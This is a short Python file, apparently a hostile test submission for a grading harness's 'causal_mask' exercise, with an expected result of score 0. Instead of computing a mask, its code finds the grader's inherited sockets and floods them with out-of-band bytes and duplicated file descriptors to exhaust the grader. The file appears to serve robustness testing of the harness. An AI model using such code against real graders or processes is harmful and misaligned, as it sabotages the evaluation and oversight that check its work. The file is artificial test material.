# INTENT: Sends the grader urgent bytes and open descriptors beside its messages, until it has no room for them.
# EXERCISE: causal_mask
# EXPECT: wrong or killed or timeout or error; score 0
import os, socket
def peers():
    for descriptor in range(3, 200):
        try:
            stream = socket.socket(fileno=os.dup(descriptor))
            if "/kernel-" in str(stream.getsockname()):
                stream.getpeername()
                yield stream
        except OSError:
            continue

def causal_mask(length):
    null = os.open("/dev/null", os.O_RDONLY)
    for stream in peers():
        stream.setblocking(False)
        for send in (lambda: stream.send(b"!", socket.MSG_OOB), lambda: socket.send_fds(stream, [b"\0\0"], [null] * 200)):
            for _ in range(500):
                try:
                    send()
                except OSError:
                    break
    return torch.zeros(1)
